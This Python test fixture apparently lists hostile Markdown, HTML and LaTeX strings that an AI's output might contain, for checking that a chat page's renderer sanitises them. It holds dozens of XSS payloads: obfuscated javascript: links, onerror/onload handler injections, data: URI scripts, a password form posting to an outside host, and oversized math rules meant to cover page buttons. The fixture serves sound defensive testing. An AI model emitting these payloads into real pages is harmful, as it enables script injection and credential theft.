"""Owns what a hostile model may say in Markdown, mathematics and HTML; knows nothing of the page that shows it."""

from __future__ import annotations

from tests.page.hostile import ELSEWHERE

_RUN = "__xss('md')"
LINKS = (
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a](java\tscript:{_RUN})",
    f"[a](<java\nscript:{_RUN}>)",
    f"[a](&#106;avascript:{_RUN})",
    f"[a](&#x6A;&#x61;vascript:{_RUN})",
    f"[a](javascript&colon;{_RUN})",
    f"[a](javascript&#58;{_RUN})",
    f"[a](javascript%3A{_RUN})",
    f"[a](\x01javascript:{_RUN})",
    f"[a](\u00a0javascript:{_RUN})",
    f"[a](<javascript:{_RUN}//>)",
    f"[a](vbscript:{_RUN})",
    "[a](data:text/html,<script>parent.__xss('md')</script>)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[a](blob:http://{ELSEWHERE}/x)",
    "[a](file:///etc/passwd)",
    "[a](intent://x#Intent;scheme=http;end)",
    f"[a](view-source:javascript:{_RUN})",
    f'[a](https://{ELSEWHERE}/ "t\\" onmouseover={_RUN}")',
    f'[a](https://{ELSEWHERE}/"onmouseover="{_RUN})',
    f"[a][r]\n\n[r]: javascript:{_RUN}",
    f"[a][r]\n\n[r]: https://{ELSEWHERE}/ \"x' onfocus={_RUN} autofocus='\"",
    f"<javascript:{_RUN}>",
    f"<JAVASCRIPT:{_RUN}>",
    "<data:text/html,<script>alert(1)</script>>",
    f"[![a](javascript:{_RUN})](javascript:{_RUN})",
    f"[<img src=x onerror={_RUN}>](https://{ELSEWHERE}/)",
    f"[^1]\n\n[^1]: [a](javascript:{_RUN}) <img src=x onerror={_RUN}>",
    f"- [ ] <img src=x onerror={_RUN}>\n- [x] [a](javascript:{_RUN})",
)
IMAGES = (
    f"![a](http://{ELSEWHERE}/a.png)",
    f"![a](//{ELSEWHERE}/a.png)",
    f"![a](javascript:{_RUN})",
    f"![a](data:image/svg+xml,<svg onload={_RUN}>)",
    "![a](data:text/html,<script>alert(1)</script>)",
    f'![a" onerror="{_RUN}](x)',
    f'![a](x" onerror="{_RUN})',
    f'![a](x "t" onerror={_RUN})',
    f"![a][r]\n\n[r]: http://{ELSEWHERE}/a.png",
)
HTML = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC=//{ELSEWHERE}/x.js></SCRIPT>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=http://{ELSEWHERE}/a.png>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg/onload={_RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<object data=//{ELSEWHERE}/x></object><embed src=//{ELSEWHERE}/x>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css><style>@import '//{ELSEWHERE}/x.css';</style>",
    f"<base href=//{ELSEWHERE}/><meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    f"<form action=//{ELSEWHERE}/><input name=password autofocus onfocus={_RUN}><button>Send</button></form>",
    f"<details open ontoggle={_RUN}>a</details>",
    f"<a href=javascript:{_RUN}>a</a>",
    f'<div style="background:url(//{ELSEWHERE}/a.png);position:fixed;inset:0">a</div>',
    f"<video src=//{ELSEWHERE}/x onerror={_RUN}></video>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><img src=x onerror={_RUN}></template>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href='javascript:{_RUN}'?>",
    f"</div></main></body><script>{_RUN}</script>",
    f"<div\n\nonclick={_RUN}\n\n>a",
)
CODE = (
    f"```<img/src=x/onerror={_RUN}>\nx\n```",
    f'```js" onmouseover="{_RUN}\nlet a = "</code></pre><img src=x onerror={_RUN}>";\n```',
    f"```html\n<script>{_RUN}</script><img src=x onerror={_RUN}>\n```",
    f"```xml\n]]><svg onload={_RUN}>\n```",
    f"`<img src=x onerror={_RUN}>`",
    f"    <img src=x onerror={_RUN}>",
    f"```__proto__\n<img src=x onerror={_RUN}>\n```",
    f"```constructor\n<img src=x onerror={_RUN}>\n```",
    f'```mermaid\ngraph TD; A["<img src=x onerror={_RUN}>"]; click A "javascript:{_RUN}"\n```',
    f"```svg\n<svg onload={_RUN}>",
)
TABLES = (
    f"|<img src=x onerror={_RUN}>|b|\n|:-|-:|\n|[a](javascript:{_RUN})|<script>{_RUN}</script>|",
    f"| a |\n|---|\n| ![x](http://{ELSEWHERE}/a.png) |",
)
MATHEMATICS = (
    f"$\\href{{javascript:{_RUN}}}{{a}}$",
    f"$\\url{{javascript:{_RUN}}}$",
    f"$\\includegraphics{{http://{ELSEWHERE}/a.png}}$",
    f'$\\htmlData{{x=" onclick="{_RUN}}}{{a}}$',
    f"$\\htmlStyle{{background: url(//{ELSEWHERE}/a.png)}}{{a}}$",
    "$\\htmlClass{fixed inset-0}{a}$",
    "$\\htmlId{root}{a}$",
    f"$\\text{{<img src=x onerror={_RUN}>}}$",
    f"$<img src=x onerror={_RUN}>$",
    f"\\[ \\unknown{{<img src=x onerror={_RUN}>}} \\]",
    f"\\( \\color{{red;background:url(//{ELSEWHERE}/a)}}{{a}} \\)",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\def\\a#1{\\b{#1#1}}\\def\\b#1{\\a{#1#1}}\\a{x}$",
    f"$$\n\\begin{{matrix}} <svg onload={_RUN}> & \\href{{data:text/html,x}}{{b}} \\end{{matrix}}\n$$",
    "$" + "{" * 400 + "x" + "}" * 400 + "$",
)
# They would lie over the page's own buttons.
LARGE = (
    "$\\rule{9999em}{9999em}$",
    "$\\rule[-5000em]{9999em}{9999em}$",
    "$\\kern-900em\\rule{1800em}{900em}$",
    "$\\raisebox{900em}{\\rule{90em}{1800em}}$",
    "$$\n\\hspace{-900em}\\rule{1800em}{900em}\n$$",
    "$x\\llap{\\rule{900em}{900em}}\\raisebox{-40em}{\\rule{90em}{50em}}$",
)
ALL = (*LINKS, *IMAGES, *HTML, *CODE, *TABLES, *MATHEMATICS)
